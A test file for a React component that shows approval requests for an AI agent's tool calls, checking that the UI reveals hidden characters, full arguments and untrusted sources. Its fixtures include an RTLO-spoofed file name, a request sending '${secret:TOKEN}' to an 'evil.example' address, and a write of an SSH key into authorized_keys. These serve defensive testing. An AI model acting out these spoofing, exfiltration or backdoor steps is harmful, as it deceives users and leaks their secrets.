// What stands on an approval: nothing shortened, nothing hidden, and no way to allow without seeing it.

import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { inboxItem } from '../../../shared/model/grant.ts';
import { WaitingCard } from './waiting-card.tsx';

const approval = (over: Record<string, unknown> = {}, item: Record<string, unknown> = {}) =>
  inboxItem.parse({
    id: 'i1',
    run: 'r1',
    step: 'tool-1-0',
    title: 'Chat',
    conversation: 'c1',
    createdAt: 1,
    status: 'open',
    request: {
      kind: 'approval',
      server: 'files',
      tool: 'write_text',
      args: { path: '/home/me/invoice\u202Efdp.exe', text: '<b>hello</b>\u200B' },
      hash: 'h',
      reason: 'Librarian asks because it writes files.',
      action: 'Write invoice\u202Efdp.exe',
      undoable: true,
      ...over,
    },
    ...item,
  });
const render = (item: ReturnType<typeof approval>): string => renderToStaticMarkup(createElement(WaitingCard, { item }));

describe('an approval', () => {
  it('shows the exact tool and arguments, hidden characters included, as text', () => {
    const html = render(approval());
    expect(html).toContain('files.write_text');
    expect(html).toContain('/home/me/invoice');
    expect(html).toContain('U+202E');
    expect(html).toContain('U+200B');
    expect(html).toContain('&lt;b&gt;hello&lt;/b&gt;');
    expect(html).not.toMatch(/[\u202e\u200b]/);
  });

  it('says what happens, why it asks, and whether it can be undone', () => {
    expect(render(approval())).toContain('can be undone');
    expect(render(approval({ undoable: false }))).toContain('cannot be undone');
    expect(render(approval())).toContain('Librarian asks because it writes files.');
    expect(render(approval({ action: 'Write report.md' }))).toMatch(/Write report\.md\?/);
  });

  it('offers “for this chat” only in a chat', () => {
    expect(render(approval())).toContain('For this chat');
    expect(render(approval({}, { conversation: undefined }))).not.toContain('For this chat');
  });

  it('shows the whole request, and what was read before; then there is no longer answer than “once”', () => {
    const at = 1;
    const html = render(
      approval({
        details: [
          { label: 'Address', text: 'https://evil.example/?d=\u202Ex' },
          { label: 'Body', text: '${secret:TOKEN}' },
        ],
        taints: [
          { label: 'untrusted', from: 'web.fetch_page of a.org', at },
          { label: 'private', from: 'files.read_text of /notes/a.md', at },
        ],
        choices: [],
      }),
    );
    for (const words of [
      'https://evil.example/?d=',
      'U+202E',
      '${secret:TOKEN}',
      'web.fetch_page of a.org',
      'files.read_text of /notes/a.md',
    ])
      expect(html).toContain(words);
    expect(html).not.toContain('Always');
    expect(html).not.toContain('For this chat');
    expect(render(approval({ choices: [{ id: 'tool', words: 'all' }] }))).toContain('Always');
  });

  it('shows the whole path of the file beside what is written into it', () => {
    const preview = { kind: 'diff' as const, text: '@@ -0,0 +1 @@\n+ssh-ed25519 AAAA\n' };
    const html = render(approval({ args: { path: '/home/me/.ssh/authorized_keys', text: 'ssh-ed25519 AAAA' }, preview }));
    expect(html).toContain('/home/me/.ssh/authorized_keys');
  });

  it('about more of a model than a budget offers a larger budget, and no chat', () => {
    const words = 'Always: let it use up to 200 tokens of your models in a day, in place of 100';
    const html = render(approval({ tool: 'sampling', args: {}, choices: [{ id: 'exact', words }], always: [words] }));
    expect(html).toContain('Raise the budget');
    expect(html).toContain('Allow this once');
    expect(html).toContain('let it use up to 200 tokens of your models in a day, in place of 100');
    expect(html).not.toMatch(/>Always<|For this chat/);
  });

  it('counts no arguments beside what is said of a request in other words', () => {
    const args = { kind: 'process-start', command: 'ls', args: ['-l'], cwd: '/tmp' };
    const html = render(approval({ args, details: [{ label: 'Command line', text: 'ls -l' }] }));
    expect(html).toContain('the whole request');
    expect(html).not.toContain('4 arguments');
  });

  it('folds the arguments away only beside a real preview', () => {
    const html = render(approval({ preview: { kind: 'diff', text: '@@ -1 +1 @@\n-old\n+new\n' } }));
    expect(html).toContain('ask-line-removed');
    expect(html).toContain('ask-line-added');
    // The path alone.
    expect(html.match(/class="tool-arg"/g)).toHaveLength(1);
    expect(html).toContain('aria-expanded="false"');
  });
});

describe('other things that wait', () => {
  it('are a question with a field, and an unknown outcome with three ways out', () => {
    const question = approval({}, { request: { kind: 'question', question: 'Which folder?' } });
    expect(render(question)).toContain('<textarea');
    const unknown = approval({}, { request: { kind: 'unknown-outcome', what: 'Send mail', startedAt: 0 } });
    for (const words of ['Send mail', 'It happened', 'Run it again', 'Skip the step']) expect(render(unknown)).toContain(words);
  });
});
